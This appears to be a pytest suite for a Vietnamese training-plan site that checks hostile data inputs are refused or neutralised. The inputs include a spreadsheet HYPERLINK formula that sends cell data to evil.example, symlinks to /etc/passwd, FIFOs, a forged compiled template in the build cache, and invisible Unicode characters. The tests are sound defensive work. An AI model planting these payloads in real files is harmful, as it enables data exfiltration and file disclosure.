"""A hostile-input corpus: what careless staff or a hostile pull request may put in data/,
each case with the outcome it must end in (a located Vietnamese message, or a refused
file), under a bound on time and memory. Never a traceback, a hang, a published outside
file or a silent skip.

Cases that need a built site (escaped pages, the asset guard, sandboxed page templates,
the calendar feeds) are in test_escaping.py, test_site_pages.py, test_calendar.py and
tests/browser/; this file holds the data side, where no build is needed.
"""

from __future__ import annotations

import os
import signal
import subprocess
import tracemalloc
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest

from macros.build.run import BuildRun, UnsafeCache
from macros.data.problems import DataError
from macros.data.site import load_site
from tests.conftest import ProjectCopy

SECONDS = 20
MEGABYTES = 200
TONES = "\u0300\u0301\u0303\u0309\u0323"


@contextmanager
def bounded(seconds: int = SECONDS, megabytes: int = MEGABYTES):
    """Fails a case that runs longer or allocates more than its bound (a hang is cut off)."""
    def too_long(signum, frame):
        raise TimeoutError(f"over {seconds} s")

    previous = signal.signal(signal.SIGALRM, too_long)
    signal.alarm(seconds)
    tracemalloc.start()
    try:
        yield
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert peak < megabytes * 1024 * 1024, f"peak {peak // 1024 // 1024} MB"


def problems(project: ProjectCopy) -> list[str]:
    """Every rendered problem, message and hint, under the bound; [] when the data loads."""
    with bounded():
        try:
            load_site(project.root)
        except DataError as error:
            return [p.render() for p in error.problems]
    return []


def one(project: ProjectCopy) -> str:
    found = problems(project)
    assert len(found) == 1, found
    return found[0]


def to_cp1258(text: str) -> bytes:
    """Vietnamese as Windows-1258 writes it: letters with their shape marks, tones combining."""
    import re
    import unicodedata

    def letter(match):
        base, marks = match.group(1), match.group(2)
        shape = "".join(m for m in marks if m not in TONES)
        return unicodedata.normalize("NFC", base + shape) + "".join(m for m in marks if m in TONES)

    return re.sub(r"(.)([\u0300-\u036f]*)", letter, unicodedata.normalize("NFD", text), flags=re.S).encode("cp1258")


# --- 5. a formula in the sessions table ----------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(project, start):
    import csv
    import io

    from macros import exports
    from macros.exports.open_data import open_data

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")'
    project.edit("data/classes/lop-1.yml", "    kind: opening\n", f"    kind: opening\n    title: '{formula}'\n")
    project.edit("data/lecturers.yml", "name: ", "name: '=1+1' #", count=1)
    site = load_site(project.root)
    raw = open_data(site, exports.Context(base_url="https://example.org/"))["du-lieu/buoi-hoc.csv"]
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
    assert "'" + formula.strip() in cells or "'" + formula in cells
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_formula_start_of_owasp_is_neutralised():
    from macros.exports.open_data import spreadsheet_text

    assert [spreadsheet_text(c + "1+1") for c in "=+-@\t\r"] == ["'" + c + "1+1" for c in "=+-@\t\r"]
    assert spreadsheet_text("Lớp 1 = tốt") == "Lớp 1 = tốt"


# --- 9. bounds on dates, lengths and invisible characters ----------------------------------------


def test_a_class_before_the_plan_is_refused(project):
    project.write("data/classes/lop-1.yml", (project.root / "data/classes/lop-1.yml").read_text(encoding="utf-8").replace("2026-", "2025-"))
    assert one(project).startswith("data/classes/lop-1.yml:5:13: start_date: lớp khai giảng ngày 2025-04-14, trước ngày ban hành kế hoạch (2026-03-02)")


def test_a_class_in_the_next_year_is_refused(project):
    text = (project.root / "data/classes/lop-5.yml").read_text(encoding="utf-8")
    project.write("data/classes/lop-5.yml", text.replace("2026-", "2027-"))
    assert "end_date: lớp kết thúc ngày 2027-" in one(project) and "ngoài năm 2026 của kế hoạch" in one(project)


@pytest.mark.parametrize("file, old, field", [
    ("data/classes/lop-1.yml", 'name: "Lớp 1"', "name"),
    ("data/classes/lop-1.yml", "    kind: opening\n", "sessions[0].title"),
    ("data/topics/nu-cong.yml", 'title: "Công tác nữ công"', "title"),
    ("data/lecturers.yml", "name: ", "[0].name"),
    ("data/venues.yml", "name: ", "[0].name"),
    ("data/announcements.yml", "title: ", "[0].title"),
])
def test_a_5000_character_name_or_title_is_refused(project, file, old, field):
    long = "x" * 5000
    new = f"    kind: opening\n    title: {long}\n" if field.startswith("sessions") else (
        old.split(":")[0] + f": {long}" + ("" if old.endswith('"') else " #"))
    project.edit(file, old, new)
    said = one(project)
    assert f" {field}: quá dài: 5000 ký tự" in said and "tối đa 200 ký tự" in said, said


def test_a_pasted_document_in_a_prose_field_is_refused(project):
    project.edit("data/topics/nu-cong.yml", "summary: >-", f"summary: {'chữ ' * 3000}\nx_summary: >-")
    assert any("summary: quá dài: 1199" in p and "tối đa 5000 ký tự" in p for p in problems(project))


@pytest.mark.parametrize("file, old, new, said", [
    ("data/classes/lop-1.yml", "id: lop-1", "id: lop\u200b-1", "data/classes/lop-1.yml:2:5: id: có ký tự vô hình U+200B trong 'lop-1'"),
    ("data/classes/lop-1.yml", 'name: "Lớp 1"', 'name: "Lớp\u200b 1"', "data/classes/lop-1.yml:3:7: name: có ký tự vô hình U+200B ở vị trí 4"),
    ("data/venues.yml", '"Hội trường"', '"Hội\u2060trường"', "rooms[0]: có ký tự vô hình U+2060 ở vị trí 4"),
    ("data/lecturers.yml", "name: ", "name: \u202e", "[0].name: có ký tự vô hình U+202E ở vị trí 1"),
])
def test_an_invisible_character_in_an_id_or_a_name_is_shown_by_its_code_point(project, file, old, new, said):
    project.edit(file, old, new)
    assert said in one(project)


# --- 10. no knock-on errors -----------------------------------------------------------------------


@pytest.mark.parametrize("file, old, new", [
    ("data/topics/nu-cong.yml", 'title: "Công tác nữ công"', "title: " + "x" * 5000),
    ("data/topics/nu-cong.yml", "duration_minutes:", "duration_minutes: 9999\nx:"),
    ("data/lecturers.yml", "name: ", "name: 12 #"),
    ("data/venues.yml", "address: ", "address: huyện Tam Đường #"),
    ("data/references.yml", "kind: ", "kind: [] #"),
])
def test_a_record_that_fails_its_own_checks_is_reported_once_not_at_each_reference(project, file, old, new):
    project.edit(file, old, new)
    found = problems(project)
    assert {p.split(":", 1)[0] for p in found} == {file}, found


def test_a_list_file_that_does_not_parse_gives_one_error_not_one_per_reference(project):
    project.write("data/lecturers.yml", "- id: [\n")
    found = problems(project)
    assert len(found) == 1 and found[0].startswith("data/lecturers.yml:"), found


# --- 11. encodings, times, suggestions ------------------------------------------------------------


def test_a_file_saved_as_utf16_says_so_and_how_to_save_it_as_utf8(project):
    path = project.root / "data/classes/lop-1.yml"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    said = one(project)
    assert said.startswith("data/classes/lop-1.yml:1:1: tệp không phải UTF-8: có vẻ được lưu bằng UTF-16")
    assert "'Save with Encoding' → 'UTF-8'" in said.split("\n")[1]


def test_a_file_in_a_legacy_vietnamese_code_page_names_it_and_the_line(project):
    path = project.root / "data/classes/lop-1.yml"
    path.write_bytes(to_cp1258(path.read_text(encoding="utf-8")))
    said = one(project)
    assert said.startswith("data/classes/lop-1.yml:3:9: tệp không phải UTF-8: có vẻ được lưu bằng Windows-1258"), said


@pytest.mark.parametrize("typed, guess", [("07.30", "07:30"), ("7.3", "07:30"), ("730", "07:30"), ("13.05", "13:05")])
def test_a_time_written_as_a_number_gets_the_time_it_meant(project, typed, guess):
    project.edit("data/classes/lop-1.yml", 'start: "07:30"', f"start: {typed}")
    said = one(project)
    assert "sessions[0].start: giờ không hợp lệ" in said and f"Có phải ý bạn là '{guess}'?" in said, said
    assert "múi giờ" not in said


def test_a_suggestion_never_looks_identical_to_what_was_typed():
    from macros.data.messages import suggest

    assert suggest("Hội trường\u200b", ["Hội trường", "Phòng thảo luận"]) is None
    assert suggest("lop\u200b-1", ["lop-1"]) is None
    assert suggest("Hoi truong", ["Hội trường", "Phòng thảo luận"]) == "Hội trường"


# --- 1 and 6. materials are regular files inside data/materials/ ----------------------------------

UPLOAD_FILE = "file: data/materials/mau-bien-ban-hop.docx"  # the Word file the `uploads` fixture puts in data/materials/
OUTSIDE_ZIP = next(iter(sorted(Path("/usr/share/python-wheels").glob("pip-*.whl"))), None) or Path(zipfile.__file__)


def name_in_materials(uploads: ProjectCopy, name: str) -> None:
    uploads.edit("data/materials.yml", UPLOAD_FILE, f"file: data/materials/{name}")


@pytest.mark.parametrize("target", [str(OUTSIDE_ZIP), "/etc/passwd", "/dev/zero", "/nonexistent/gone.pdf", "../../plan.yml"])
def test_a_symlink_named_by_a_material_is_refused_never_followed(uploads, target):
    name = "x" + (Path(target).suffix if Path(target).suffix in (".pdf",) else ".docx")
    os.symlink(target, uploads.root / "data/materials" / name)
    name_in_materials(uploads, name)
    said = one(uploads)
    assert said.startswith(f"data/materials.yml:23:9: [2].file: 'data/materials/{name}' là liên kết tượng trưng (symlink)"), said


@pytest.mark.parametrize("target", ["/dev/zero", "/nonexistent/gone.pdf", str(OUTSIDE_ZIP)])
def test_a_symlink_nobody_names_is_named_in_an_error(uploads, target):
    os.symlink(target, uploads.root / "data/materials/lạ.pdf")
    assert one(uploads).startswith("data/materials/lạ.pdf:1:1: liên kết tượng trưng (symlink) hoặc tệp đặc biệt trong data/materials/")


def test_a_linked_materials_folder_is_not_followed(uploads):
    os.symlink("/usr/share", uploads.root / "data/materials/chung")
    assert one(uploads).startswith("data/materials/chung:1:1: liên kết tượng trưng (symlink)")


def test_a_fifo_named_by_a_material_does_not_hang(uploads):
    os.mkfifo(uploads.root / "data/materials/ong.pdf")
    name_in_materials(uploads, "ong.pdf")
    assert "không phải tệp thường" in one(uploads)


def zipped(members: dict[str, bytes]) -> bytes:
    import io

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in members.items():
            package.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("name, members, said", [
    ("x.docx", {"hello.txt": b"hi"}, "tệp nén không chứa tài liệu Word (.docx) (thiếu word/document.xml)"),
    ("x.docx", {"xl/workbook.xml": b"<x/>"}, "thiếu word/document.xml"),
    ("x.xlsx", {"word/document.xml": b"<x/>"}, "thiếu xl/workbook.xml"),
    ("x.pptx", {"a": b""}, "thiếu ppt/presentation.xml"),
    ("x.odt", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}, "tệp không phải OpenDocument (.odt) (mimetype: 'application/vnd.oasis.opendocument.spreadsheet')"),
    ("x.ods", {"content.xml": b""}, "thiếu mimetype"),
    ("x.odp", {"mimetype": b"x" * 10_000}, "tệp không phải OpenDocument (.odp)"),
])
def test_an_office_file_must_hold_its_document_not_any_zip(uploads, name, members, said):
    (uploads.root / "data/materials" / name).write_bytes(zipped(members))
    name_in_materials(uploads, name)
    assert said in one(uploads)


def test_a_wheel_copied_in_as_docx_is_refused(uploads):
    (uploads.root / "data/materials/x.docx").write_bytes(OUTSIDE_ZIP.read_bytes())
    name_in_materials(uploads, "x.docx")
    assert "không chứa tài liệu Word (.docx)" in one(uploads)


@pytest.mark.parametrize("name", ["ok.docx", "ok.odt"])
def test_a_real_office_package_passes(uploads, name):
    members = {"word/document.xml": b"<w:document/>"} if name.endswith("docx") else {"mimetype": b"application/vnd.oasis.opendocument.text"}
    (uploads.root / "data/materials" / name).write_bytes(zipped(members))
    name_in_materials(uploads, name)
    assert problems(uploads) == []


# --- 8. every file under data/ is read or named -----------------------------------------------------


@pytest.mark.parametrize("source, target, hint", [
    ("data/classes/lop-5.yml", "data/classes/lop-5.yaml", "Đổi tên thành lop-5.yml (data/classes/lop-5.yml)"),
    ("data/classes/lop-5.yml", "data/classes/Lop-6.YML", "Đổi tên thành lop-6.yml (data/classes/lop-6.yml)"),
    ("data/topics/nu-cong.yml", "data/topics/Nu-Cong.Yml", "Đổi tên thành nu-cong.yml"),
    ("data/announcements.yml", "data/thong-bao.yml", "Đổi tên thành announcements.yml (data/announcements.yml)"),
    ("data/venues.yml", "data/venues.yml.bak", "xóa tệp này hoặc chuyển nó ra khỏi data/"),
    ("data/venues.yml", "data/classes/cu/lop-1.yml", "xóa tệp này hoặc chuyển nó ra khỏi data/"),
])
def test_a_file_that_is_not_read_is_named_with_the_name_it_should_have(project, source, target, hint):
    (project.root / target).parent.mkdir(parents=True, exist_ok=True)
    project.copy(source, target)
    if target.startswith("data/classes/Lop-6"):
        project.edit(target, "id: lop-5", "id: lop-6")
    found = problems(project)
    mine = [p for p in found if p.startswith(f"{target}:1:1: tệp không được đọc")]
    assert len(mine) == 1 and hint in mine[0], found


def test_renaming_a_class_file_to_yaml_no_longer_drops_the_class_in_silence(project):
    os.rename(project.root / "data/classes/lop-5.yml", project.root / "data/classes/lop-5.yaml")
    assert any(p.startswith("data/classes/lop-5.yaml:1:1:") for p in problems(project))


def test_a_data_file_that_is_a_symlink_is_not_read(project):
    os.symlink("/etc/passwd", project.root / "data/classes/lop-6.yml")
    said = one(project)
    assert said.startswith("data/classes/lop-6.yml:1:1: tệp là liên kết tượng trưng (symlink)") and "root:" not in said


# --- 7. a size limit per data file ------------------------------------------------------------------


def test_a_data_file_over_the_limit_is_refused_before_it_is_read(project):
    from macros.data.reader import MAX_FILE_BYTES

    with open(project.root / "data/announcements.yml", "ab") as file:
        file.truncate(50 * 1024 * 1024)  # sparse: 50 MB that cost no disk
    with bounded(seconds=5, megabytes=20):
        said = one(project)
    assert said.startswith("data/announcements.yml:1:1: tệp nặng 50,0 MB, vượt giới hạn 1,0 MB của một tệp dữ liệu"), said
    assert MAX_FILE_BYTES == 1024 * 1024


# --- the build cache --------------------------------------------------------------------------


def test_a_build_cache_committed_to_git_is_refused_not_taken_as_the_builds_own(project):
    """A pull request may commit a forged PDF, or a compiled template (code), into .cache/build/:
    the build would serve the one and run the other."""
    forged = project.root / ".cache/build/templates/__jinja2_forged.cache"
    forged.parent.mkdir(parents=True)
    forged.write_bytes(b"j2 marshalled code")
    subprocess.run(["git", "init", "-q"], cwd=project.root, check=True)
    subprocess.run(["git", "add", "-f", "data", ".cache"], cwd=project.root, check=True)

    with pytest.raises(UnsafeCache) as refused:
        BuildRun.start(project.root, "", {})

    assert str(refused.value) == (
        "Thư mục bộ nhớ đệm .cache/build/ có tệp được đưa vào git: .cache/build/templates/__jinja2_forged.cache. "
        "Bộ nhớ đệm chỉ chứa những gì các lần xây dựng trước tạo ra; tệp trong git có thể bị giả mạo "
        "(một PDF, một mẫu trang đã biên dịch).\n"
        "    → Gỡ chúng khỏi git: git rm -r --cached .cache/build")


def test_a_build_cache_that_git_ignores_is_used(project):
    subprocess.run(["git", "init", "-q"], cwd=project.root, check=True)
    subprocess.run(["git", "add", "data"], cwd=project.root, check=True)

    run = BuildRun.start(project.root, "", {})

    assert run.pdf_cache.folder == project.root / ".cache/build/pdf"
    assert run.templates is not None
